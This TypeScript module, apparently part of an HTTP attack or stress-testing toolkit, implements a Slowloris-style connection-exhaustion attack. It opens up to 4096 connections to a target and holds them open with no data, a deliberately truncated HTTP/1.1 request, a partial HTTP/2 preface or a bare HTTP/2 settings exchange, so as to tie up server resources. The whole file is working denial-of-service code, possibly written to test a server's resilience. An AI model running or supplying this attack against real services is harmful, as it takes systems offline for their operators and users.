import { requestFor } from '../../raw-http/raw-http1.ts'
import type { RawSocket } from '../../raw-http/raw-socket.ts'
import { type AttackTarget, type HoldOptions, hold, type Report, repeat } from '../attack.ts'
import { Crowd } from '../crowd.ts'

const AT_ONCE = 32

/** `silent` sends nothing, `half` a part of a request, `kept` a whole one; `preface` and `settings` begin with HTTP/2. */
export type Idle = 'silent' | 'half' | 'kept' | 'preface' | 'settings'

/** Connections that are there and do nothing. */
export async function idleConnections(
  target: AttackTarget,
  options: HoldOptions & { idle: Idle; connections?: number },
): Promise<Report> {
  const { connections = 4096, idle, signal } = options
  const crowd = new Crowd(target, signal)
  try {
    const { done, failed } = await repeat({ times: connections, atOnce: AT_ONCE, signal }, async () => {
      if (idle === 'settings') await crowd.http2()
      else await beginTo(await crowd.socket(idle === 'preface' ? 'h2' : 'http/1.1'), idle)
    })
    await hold(options)
    return { done, failed, open: crowd.open }
  } finally {
    crowd.close()
  }
}

async function beginTo(socket: RawSocket, idle: Exclude<Idle, 'settings'>): Promise<void> {
  const answered = new Promise<void>((resolve) => socket.onBytes(() => resolve()))
  socket.readAll()
  if (idle === 'half') await socket.send('GET /v2/ HTTP/1.1\r\nHost: x\r\nX-')
  if (idle === 'preface') await socket.send('PRI * HTTP/2.0\r\n\r\nSM')
  if (idle !== 'kept') return
  await socket.send(requestFor('/v2/'))
  await Promise.race([answered, socket.ended])
}
